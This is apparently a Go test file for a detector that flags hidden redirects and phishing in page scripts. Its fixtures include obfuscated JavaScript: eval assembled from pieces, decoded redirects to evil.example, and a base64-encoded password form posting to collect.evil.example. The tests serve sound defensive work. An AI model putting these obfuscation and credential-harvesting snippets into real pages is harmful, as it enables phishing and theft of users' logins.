package links

import (
	"fmt"
	"strings"
	"testing"

	"github.com/firstsight/firstsight/internal/lineartest"
)

// TestHiddenRedirectNames: the whole script's names (redirect_names.go):
// a decoded value assigned far before the navigation, an executor or a
// writer given a decoded name, a form's action or a refresh built from
// one, Object.assign of the location, eval reached through a computed
// property of the window, and a name assigned twice (its last string
// read) mark the page; each near miss does not: a one-letter name of
// another function far away, a name assigned again in clear, a fetch of
// a decoded address followed by a written sign-in address, a token, an
// image or a message decoded beside script that runs or writes
// something else.
func TestHiddenRedirectNames(t *testing.T) {
	pad := strings.Repeat("var x=1;", 80) // 640 bytes: past navWindow
	const (
		refresh = "PG1ldGEgaHR0cC1lcXVpdj0icmVmcmVzaCIgY29udGVudD0iMDt1cmw9aHR0cHM6Ly9ldmlsLmV4YW1wbGUvIj4="
		form    = "PGZvcm0gYWN0aW9uPSJodHRwczovL2NvbGxlY3QuZXZpbC5leGFtcGxlL3AiIG1ldGhvZD0icG9zdCI+PGlucHV0IG5hbWU9InUiPjxpbnB1dCB0eXBlPSJwYXNzd29yZCIgbmFtZT0icCI+PC9mb3JtPg=="
		collect = "aHR0cHM6Ly9jb2xsZWN0LmV2aWwuZXhhbXBsZS9w"
		message = "PGgxPlNlY3VyZSBtZXNzYWdlPC9oMT48cD5IZWxsbzwvcD4="
	)
	for _, tc := range []struct {
		name, script string
		hidden       bool
	}{
		// 1. a decoded value assigned far before its use
		{"atob far before location.href", `var u=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv');` + pad + `location.href=u;`, true},
		{"decodeURIComponent far before replace, in a function", `window.onload=function(){var dest=decodeURIComponent(k);` + pad + `location.replace(dest)}`, true},
		{"unescape far before window.open", `var target = unescape(enc);` + pad + `window.open(target)`, true},
		{"hex read by fromCharCode far before", `var link=h.match(/../g).map(c=>String.fromCharCode(parseInt(c,16))).join('');` + pad + `top.location=link`, true},
		{"a large payload's statement far before", `var u=atob('` + strings.Repeat("QUFB", 300) + `');` + pad + `location.href=u`, true},
		{"near miss: one-letter names of two functions far apart", `(function(){var e=decodeURIComponent(q);console.log(e)` + pad + `})();(function(){var e=cfg.home;location.href=e})()`, false},
		{"near miss: a decoded name assigned again in clear", `var url=atob(k);` + pad + `url='https://login.bank.example/';location.href=url`, false},
		{"near miss: a fetch of a decoded address, then a written sign-in", `var api=atob('` + collect + `');` + pad + `fetch(api,{method:'POST',body:JSON.stringify(d)}).then(function(r){window.location.href='https://login.microsoftonline.com/'})`, false},
		{"near miss: a fetch of a decoded address, then a written sign-in, arrow", `var api=atob('` + collect + `');fetch(api,{method:'POST'}).then(r=>{location.replace('https://login.microsoftonline.com/')})`, false},
		{"near miss: a consent script reading its cookie", `var c=decodeURIComponent(document.cookie.split('consent=')[1]||'');` + pad + `if(!c){location.href=location.pathname+'?consent=1'}`, false},
		// 2. an executor or writer given a decoded name
		{"eval of a decoded name", `var s=atob(x);eval(s)`, true},
		{"eval of a decoded name far after", `var code=atob(x);` + pad + `eval(code)`, true},
		{"new Function of a decoded name", `var s=decodeURIComponent(p);new Function(s)()`, true},
		{"setTimeout of a decoded string", `var s=unescape(p);setTimeout(s,10)`, true},
		{"document.write of a decoded refresh", `var h=atob('` + refresh + `');document.write(h)`, true},
		{"innerHTML of a decoded sign-in form", `var p='` + form + `';var h=atob(p);document.body.innerHTML=h`, true},
		{"innerHTML of a decoded sign-in form, written in the call", `document.getElementById('c').innerHTML=atob('` + form + `')`, true},
		{"insertAdjacentHTML of a decoded form", `var h=decodeURIComponent(escape(atob('` + form + `')));document.body.insertAdjacentHTML('beforeend', h)`, true},
		{"near miss: a function returning a decoded value as a timer", `function d(){return atob(k)}setTimeout(d,10)`, false},
		{"near miss: a function declared with a parameter s", `var s=atob(x);var f=function(s){return s.trim()};f(s)`, false},
		{"near miss: an envelope viewer writing what it decrypts by name", `var payload=document.getElementById('msg').textContent;var h=decodeURIComponent(escape(atob(payload)));document.write(h)`, false},
		{"near miss: a written message by name", `var h=atob('` + message + `');document.body.innerHTML=h`, false},
		{"near miss: an image decoded beside a written tag", `var px=atob('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==');el.innerHTML='<img src="logo.png">'`, false},
		// 3. a form's action or a refresh built from a decoded value
		{"a form's action decoded", `var f=document.forms[0];f.action=atob('` + collect + `')`, true},
		{"setAttribute of a decoded action", `var d=atob(k);f.setAttribute('action', d);f.submit()`, true},
		{"a refresh element built with a decoded target", `var m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;url='+atob(x);document.head.appendChild(m)`, true},
		{"a refresh element built with a decoded name far away", `var go=atob(x);` + pad + `var m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;url='+go`, true},
		{"near miss: a form's action in clear beside a decoded image", `var img=atob(data);f.action='/search'`, false},
		{"near miss: a form's configured action beside a decoded token", `var t=atob(tok);f.action=cfg.post`, false},
		{"near miss: a search form's action by setAttribute", `var q=decodeURIComponent(x);f.setAttribute('action','/search?q='+q)`, false},
		// 4. Object.assign and location's calls with a decoded name
		{"Object.assign of the location", `var d=atob(k);Object.assign(location,{href:d})`, true},
		{"Object.assign of window.location, decoded in place", `Object.assign(window.location, {href: atob(x)})`, true},
		{"location.assign of a decoded name far before", `var dest=atob(k);` + pad + `location.assign(dest)`, true},
		{"near miss: Object.assign of the location to a configured address", `var t=atob(tok);Object.assign(location,{href:cfg.loginUrl})`, false},
		{"near miss: Object.assign of options", `var d=atob(k);Object.assign(opts,{href:d})`, false},
		// 5. eval through a computed property of the window
		{"globalThis of a name spelling eval", `var x='ev'+'al';globalThis[x](atob(k))`, true},
		{"window of a decoded eval", `window[atob('ZXZhbA==')](s)`, true},
		{"self of eval in pieces", `self['ev'+'al'](atob(k))`, true},
		{"self of eval in pieces, a decoded name", `var c=atob(k);self['ev'+'al'](c)`, true},
		{"a computed Function held", `var F=window['Func'+'tion'];F(decodeURIComponent(p))()`, true},
		{"window of fromCharCode spelling eval", `window[String.fromCharCode(101,118,97,108)](p)`, true},
		{"near miss: a callback called by name with decoded data", `window[cb](JSON.parse(atob(d)))`, false},
		{"near miss: eval in pieces of a written string", `self['ev'+'al']('1+1')`, false},
		// 6. a name assigned twice
		{"the second string assigned", `var p='';p='` + refresh + `';document.write(atob(p))`, true},
		{"pieces appended", `var p='` + refresh[:12] + `';p+='` + refresh[12:] + `';document.write(atob(p))`, true},
		{"near miss: a written string replaced by an element's text", `var p='` + refresh + `';p=document.getElementById('m').textContent;document.write(atob(p))`, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := hiddenRedirect([]byte("<script>" + tc.script + "</script>")); got != tc.hidden {
				t.Errorf("hiddenRedirect = %v, want %v", got, tc.hidden)
			}
		})
	}
}

// TestHiddenRedirectNamesLinear: the whole script's names, executors,
// writers, computed properties, form actions, appended strings, the
// decoders of the browser's state (followed back through names),
// comments and regular expression literals (opened and never closed),
// and a pass past its kept events' bound cost
// no more than a bounded number of passes: four times the script costs
// at most ten times as much.
func TestHiddenRedirectNamesLinear(t *testing.T) {
	for _, unit := range []string{
		"var u=atob(k);u='x';",
		"var abc=atob(k);location.href=cfg.u;eval(q);document.write(z);",
		"window[x](y);self['ev'+'al'];globalThis[atob('eA==')];this[e];",
		"var x='ev';x+='al';",
		"f.action=cfg.u;f.setAttribute('action',u);m.httpEquiv='x';",
		"Object.assign(location,{hash:1});",
		"el.innerHTML=h;el.outerHTML=atob(k);document.write(h);",
		"new Function(s);setTimeout(s);(0,eval)(s);",
		"var p='';p+='QUFB';p+='QUFB';",
		"{{{{var s=decodeURIComponent(x)}",
		"var q=decodeURIComponent(location.search);",
		"m=n;n=o;o=p;atob(m[1]||'');unescape(a.b);",
		"s.replace(/'/g,'');/* c */ // d\n",
		"(/(/[/ ",
		"var abcd=atob(k);function f(){var e=atob(k)}",
		"document.cookie=n+k;localStorage.setItem(k,v);",
		"JSON.parse(decodeURIComponent('%7B%7D'));",
	} {
		small := []byte("<script>var s=atob(k);" + strings.Repeat(unit, 2000) + "</script>")
		big := []byte("<script>var s=atob(k);" + strings.Repeat(unit, 8000) + "</script>")
		lineartest.Check(t, fmt.Sprintf("hiddenRedirect(%.20q x n)", unit), func() { hiddenRedirect(small) }, func() { hiddenRedirect(big) })
	}
}
